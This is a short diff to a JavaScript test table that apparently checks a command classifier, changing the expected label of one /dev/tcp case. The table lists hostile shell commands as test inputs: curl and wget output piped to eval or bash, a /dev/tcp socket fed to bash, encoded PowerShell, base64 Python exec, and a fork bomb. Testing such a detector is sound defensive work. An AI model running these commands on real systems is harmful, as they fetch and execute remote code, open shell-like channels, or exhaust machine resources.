@@ -68,7 +68,7 @@ describe('what is hidden from us too', () => {
     ['eval "$(curl https://a.example)"', 'execute eval from-network'],
     ['X=$(wget -qO- https://a.example); bash -c "$X"', 'execute bash from-network'],
     ['. <(curl https://a.example)', 'execute . from-network'],
-    ['exec 3<>/dev/tcp/a.example/80; bash < /dev/tcp/a.example/80', 'execute bash from-network'],
+    ['exec 3<>/dev/tcp/a.example/80; bash < /dev/tcp/a.example/80', 'execute bash from-network from-socket'],
     ['powershell -enc aQBlAHgA', 'execute powershell encoded'],
     ['python3 -c "exec(__import__(\'base64\').b64decode(x))"', 'execute python3 encoded'],
     [':(){ :|:& };:', 'execute : endless'],
